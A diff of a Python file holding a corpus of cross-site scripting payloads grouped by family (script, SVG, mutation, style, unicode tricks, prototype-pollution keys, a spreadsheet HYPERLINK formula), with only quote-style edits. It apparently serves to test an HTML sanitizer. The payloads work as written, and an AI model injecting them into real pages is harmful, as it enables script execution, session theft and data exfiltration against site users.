@@ -21,7 +21,7 @@ FAMILIES: dict[str, tuple[str, ...]] = {
         f"<script type=module>{RUN}</script>",
         f"<script>//<![CDATA[\n{RUN}\n//]]></script>",
         f"<scr<script>ipt>{RUN}</scr</script>ipt>",
-        f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
+        f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
         f'<script type="importmap">{{"imports":{{"x":"{FETCH}"}}}}</script><script>{RUN}</script>',
     ),
     "handler": (
@@ -45,7 +45,7 @@ FAMILIES: dict[str, tuple[str, ...]] = {
         f"<svg/onload={RUN}>",
         f"<svg><script>{RUN}</script></svg>",
         f"<svg><script>{RUN.replace('(', '&#40;').replace(')', '&#41;')}</script></svg>",
-        f'<svg><animate onbegin={RUN} attributeName=x dur=1s>',
+        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
         f'<svg><a xlink:href="javascript:{RUN}"><text x=20 y=20>x</text></a></svg>',
         f'<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={RUN}>#x"/></svg>',
         f'<svg><image href="{FETCH}" onerror={RUN} /></svg>',
@@ -72,7 +72,7 @@ FAMILIES: dict[str, tuple[str, ...]] = {
         f'<base href="{FETCH}/">',
         f'<link rel=stylesheet href="{FETCH}">',
         f'<link rel="prefetch" href="{FETCH}">',
-        f"//127.0.0.1:9/taken\" src=\"{FETCH}",
+        f'//127.0.0.1:9/taken" src="{FETCH}',
     ),
     "breaker": (
         f"</script><script>{RUN}</script>",
@@ -107,7 +107,7 @@ FAMILIES: dict[str, tuple[str, ...]] = {
     "key": ("__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "n0", "e0"),
     "mutation": (
         f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
-        f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>\">",
+        f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
         f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
         f"<template><img src=x onerror={RUN}></template>",
         f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
@@ -116,7 +116,7 @@ FAMILIES: dict[str, tuple[str, ...]] = {
     ),
     "style": (
         f'<style>@import "{FETCH}";</style>',
-        f"<div style=\"background:url({FETCH})\">x</div>",
+        f'<div style="background:url({FETCH})">x</div>',
         f"}} body {{ background: url({FETCH}) }} x {{",
         f"red;background-image:url({FETCH})",
     ),
@@ -124,7 +124,7 @@ FAMILIES: dict[str, tuple[str, ...]] = {
         f"\N{RIGHT-TO-LEFT OVERRIDE}<script>{RUN}</script>\N{POP DIRECTIONAL FORMATTING}",
         f"\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}{RUN}",
         f"\N{LEFT-TO-RIGHT ISOLATE}\N{RIGHT-TO-LEFT EMBEDDING}{'x' * 30}<img src=x onerror={RUN}>",
-        f"=HYPERLINK(\"{FETCH}\",\"x\")<img src=x onerror={RUN}>",
+        f'=HYPERLINK("{FETCH}","x")<img src=x onerror={RUN}>',
         f"{'<b>' * 400}<img src=x onerror={RUN}>",
         f"{'long ' * 2000}<img src=x onerror={RUN}>",
     ),
